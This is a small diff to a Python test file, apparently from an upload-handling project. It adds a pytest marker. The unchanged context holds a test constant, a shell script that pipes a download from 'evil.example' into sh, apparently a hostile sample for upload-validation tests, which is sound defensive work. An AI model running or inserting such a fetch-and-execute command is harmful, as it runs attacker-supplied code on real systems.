@@ -20,6 +20,8 @@ from trefpunt.core.files import file_prepare, sniff
 
 from .factories import enter, image_bytes, make_user, pdf_bytes, published, structured_image
 
+pytestmark = pytest.mark.full_encoding  # the upload path as production runs it
+
 SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
 
 
